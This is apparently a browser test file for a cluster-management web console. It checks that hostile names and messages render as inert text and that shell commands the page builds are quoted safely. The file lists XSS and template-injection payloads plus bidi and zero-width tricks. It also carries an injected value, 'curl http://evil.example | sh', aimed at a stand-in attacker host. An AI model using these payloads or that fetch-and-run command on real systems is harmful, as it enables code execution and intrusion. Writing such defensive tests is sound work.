// Names and messages come from clusters: whatever they contain, they are text.
import { expect, test } from 'vitest'
import type { Snapshot } from '#console/protocol.ts'
import { snapshots } from '#test/support/console/fixtures.ts'
import { useBench } from './browser.ts'

const bench = useBench()

const HOSTILE = [
  '<img src=x onerror="window.hit=1">',
  '</script><script>window.hit=1</script>',
  'javascript:window.hit=1',
  '"><svg onload=window.hit=1>',
  "'; window.hit=1; //",
  '\u202egpj.exe\u2066',
  'adm\u200bin\u0007\u200d',
  '{{constructor.constructor("window.hit=1")()}}',
  'a'.repeat(4_000),
]

const VIEWS = [
  '#/home',
  '#/pipeline',
  '#/machines/prod?as=table',
  '#/machines/prod',
  '#/rollouts/prod',
  '#/rollouts/prod/base',
  '#/budgets/prod',
  '#/repairs/prod',
  '#/node/prod/n-3',
  '#/clusters',
  '#/maintenance/prod',
  '#/commits',
  '#/why/prod/Node/x',
]

/** Keys whose values the page compares; all other texts are free. */
const KEPT = new Set([
  'id',
  'row',
  'topic',
  'revision',
  'phase',
  'state',
  'release',
  'stage',
  'when',
  'weight',
  'kind',
  'cluster',
  'status',
  'per',
  'mode',
  'of',
])

function poisoned(value: unknown, text: string, key = ''): unknown {
  if (typeof value === 'string') return KEPT.has(key) ? value : text
  if (Array.isArray(value)) return value.map((v) => poisoned(v, text, key))
  if (typeof value !== 'object' || value === null) return value
  return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, poisoned(v, text, k)]))
}

test.each(HOSTILE.map((text) => [text.slice(0, 40), text]))(
  '%j is shown as it is, in every view (S20, S35)',
  async (_, text) => {
    for (const s of snapshots) bench.server.topics.set(s.topic, poisoned(s, text) as Snapshot)
    bench.server.why = poisoned(bench.server.why, text) as typeof bench.server.why
    const page = await bench.open('#/home')
    const asked = new Set<string>()
    page.on('request', (r) => asked.add(new URL(r.url()).origin))
    page.on('dialog', (d) => void d.dismiss().then(() => bench.errors.push('a dialog was opened')))
    for (const hash of VIEWS) {
      await page.evaluate(`location.hash = ${JSON.stringify(hash)}`)
      await page.locator('main h1').waitFor()
      await page.locator('main:not(:has(.bones)) h1').waitFor()
      expect(await page.evaluate('window.hit')).toBeUndefined()
      expect(
        await page.evaluate<string[]>(
          `[...document.querySelectorAll('a[href]')].map((a) => a.protocol).filter((p) => p !== 'http:')`,
        ),
      ).toEqual([])
      // What turns the reading direction, or is not seen at all, makes one name look like another.
      const shown = await page.evaluate<string>(
        `document.title + document.body.textContent + [...document.querySelectorAll('*')].flatMap((e) => ['title', 'aria-label', 'alt', 'placeholder', 'label'].map((a) => e.getAttribute(a) ?? '')).join(' ')`,
      )
      expect(shown.match(/[\p{Bidi_Control}\u200b-\u200f]|(?![\n\t])\p{Cc}/u), hash).toBeNull()
      expect(await page.evaluate(`document.querySelectorAll('img, iframe, object, embed, main script').length`)).toBe(0)
    }
    expect([...asked].filter((origin) => origin !== bench.server.url)).toEqual([])
    expect(bench.errors).toEqual([])
  },
)

test('an address from a stranger makes no command that does more than one (S35)', async () => {
  const evil = encodeURIComponent("x'; curl http://evil.example | sh; '")
  const page = await bench.open('#/home')
  for (const hash of [
    `#/prepare?change=import&cluster=${evil}`,
    `#/node/${evil}/${evil}`,
    `#/rollouts/${evil}/${evil}`,
    `#/repairs/${evil}/${evil}`,
    `#/why/${evil}/Node/${evil}`,
    `#/commits/${evil}`,
    `#/plan/${evil}`,
    `#/search?q=${evil}`,
    `#/past?topic=machines%2F${encodeURIComponent(evil)}`,
  ]) {
    await page.evaluate(`location.hash = ${JSON.stringify(hash)}`)
    await page.locator('main h1').waitFor()
    await page.locator('main:not(:has(.bones)) h1').waitFor()
    const commands = await page.locator('.terminal code').allTextContents()
    for (const command of commands.filter((text) => text.includes('curl')))
      expect(command, hash).toContain(`'x'\\''; curl http://evil.example | sh; '\\'''`)
  }
})
